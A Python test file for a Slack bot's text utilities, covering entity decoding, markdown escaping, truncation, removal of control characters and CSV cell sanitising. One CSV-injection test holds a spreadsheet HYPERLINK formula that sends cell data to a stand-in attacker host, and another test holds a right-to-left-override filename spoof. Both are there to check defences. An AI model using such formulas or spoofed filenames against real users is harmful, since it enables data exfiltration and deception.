from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from bot.core.text import (
    ELLIPSIS,
    decode_slack_text,
    displayable,
    escape_markdown,
    escape_mrkdwn,
    truncate,
    utf16_len,
)


def test_entities_decode_to_what_was_typed_f3() -> None:
    wire = "VPN &amp; SSO broken for &lt;contractor&gt; accounts"
    assert decode_slack_text(wire) == "VPN & SSO broken for <contractor> accounts"


def test_escape_is_exactly_once_f3() -> None:
    typed = decode_slack_text("VPN &amp; SSO broken for &lt;contractor&gt; accounts")
    assert escape_mrkdwn(typed) == "VPN &amp; SSO broken for &lt;contractor&gt; accounts"
    assert "&amp;amp;" not in escape_mrkdwn(typed)


def test_literal_entity_text_survives_round_trip() -> None:
    # A person who types "&amp;" literally: Slack sends "&amp;amp;", we store "&amp;".
    assert decode_slack_text("&amp;amp;") == "&amp;"


def test_mentions_and_broadcasts_never_survive_as_pings() -> None:
    wire = "<!channel> <!here> <!everyone> <@U123|bob> <@U999> <#C42|general> <!subteam^S1|@oncall>"
    typed = decode_slack_text(wire)
    assert typed == "@channel @here @everyone @bob @U999 #general @oncall"
    assert "<" not in escape_mrkdwn(typed)


def test_links_keep_the_url() -> None:
    assert decode_slack_text("see <https://help.example.test/kb/42>") == "see https://help.example.test/kb/42"
    assert decode_slack_text("<http://x.test|x.test>") == "x.test"
    assert decode_slack_text("<https://a.test/d|the docs>") == "the docs (https://a.test/d)"


def test_truncate_keeps_short_text_and_marks_cuts() -> None:
    assert truncate("short", 10) == "short"
    cut = truncate("a" * 20, 10)
    assert cut == "a" * 9 + ELLIPSIS


def test_truncate_never_splits_an_entity_f12() -> None:
    text = "a" * 2996 + "&amp;" + "b" * 100
    cut = truncate(text, 3000)
    assert cut.endswith("a" + ELLIPSIS)
    assert "&am" not in cut and len(cut) <= 3000


def test_truncate_never_splits_an_emoji_f12() -> None:
    text = "a" * 2998 + "🔥" + "b" * 100
    cut = truncate(text, 3000)
    assert "🔥" not in cut and utf16_len(cut) <= 3000 and cut.endswith(ELLIPSIS)
    joined = "a" * 2996 + "👩‍💻" + "tail"
    assert truncate(joined, 2999).endswith("a" + ELLIPSIS)


@given(st.text(), st.integers(min_value=2, max_value=60))
def test_truncate_respects_limit_in_code_points_and_utf16(text: str, limit: int) -> None:
    cut = truncate(text, limit)
    assert len(cut) <= limit and utf16_len(cut) <= limit
    assert cut == text or cut.endswith(ELLIPSIS)


# Lone surrogates are left out: decoding replaces them (see the next test).
@given(st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))))
def test_escape_then_decode_gives_the_displayable_text(text: str) -> None:
    assert decode_slack_text(escape_mrkdwn(text)) == displayable(text)


def test_a_lone_surrogate_is_replaced_and_a_pair_kept() -> None:
    decoded = decode_slack_text("a\ud800b\udfffc \U0001f600")
    assert decoded == "a\ufffdb\ufffdc \U0001f600"
    assert utf16_len(decoded) == 8 and decoded.encode("utf-8")


@given(st.text())
def test_displayable_text_has_no_layout_controls(text: str) -> None:
    shown = displayable(text)
    assert not any(0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069 for c in shown)
    assert all(c in "\t\n" or not (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F) for c in shown)


def test_displayable_removes_reordering_and_control_characters_only() -> None:
    assert displayable("invoice\u202egnp.exe") == "invoicegnp.exe"  # RLO would show "invoiceexe.png"
    assert displayable("\u2067שלום\u2069 bell\x07 \x1b[31mred\x1b[0m\r\n") == "שלום bell [31mred[0m\n"
    kept = "tab\there\nnew line · مرحبا \u200fmark · 👩‍💻 · e\u0301"
    assert displayable(kept) == kept  # RTL letters, marks, joiners and combining accents stay


def test_nul_characters_are_dropped() -> None:
    assert decode_slack_text("print\x00er jams") == "printer jams"


def test_csv_cells_never_run_as_formulas() -> None:
    from bot.export import csv_cell

    assert csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")').startswith("'=")
    assert csv_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert csv_cell("-1+2") == "'-1+2"
    assert csv_cell("Printer jams") == "Printer jams"
    assert (csv_cell(True), csv_cell(False), csv_cell(None)) == ("true", "false", "")
    assert csv_cell(["vip", "billing"]) == "vip billing"


def test_markdown_escape_shows_text_as_typed() -> None:
    typed = "Checkout | EU *down* `500` _now_ [see](x) <b> ~~no~~ #2 &copy; AT&T C:\\temp"
    assert escape_markdown(typed) == (
        "Checkout \\| EU \\*down\\* \\`500\\` \\_now\\_ \\[see\\](x) \\<b> \\~\\~no\\~\\~ \\#2 \\&copy; AT&T C:\\\\temp"
    )


def test_markdown_escape_keeps_lines_from_starting_blocks() -> None:
    typed = "Failing over.\r\n\n- not a list\n> not a quote\n1. not a list either\n+ nor this\r  indented  "
    assert escape_markdown(typed) == (
        "Failing over. \\- not a list \\> not a quote 1\\. not a list either \\+ nor this indented"
    )
    assert escape_markdown(typed, line_break="\\\n  ").splitlines() == [
        "Failing over.\\",
        "  \\- not a list\\",
        "  \\> not a quote\\",
        "  1\\. not a list either\\",
        "  \\+ nor this\\",
        "  indented",
    ]
    assert escape_markdown("invoice\u202egnp.exe") == "invoicegnp.exe"


@given(st.text())
def test_markdown_escape_leaves_no_markup_and_one_line(typed: str) -> None:
    escaped = escape_markdown(typed)
    assert "\n" not in escaped and "\r" not in escaped
    bare = re.sub(r"\\.", "", escaped)  # what is left once every escaped character is taken out
    assert not re.search(r"[\\`*_\[\]<|~#]|&#?[0-9A-Za-z]+;", bare)
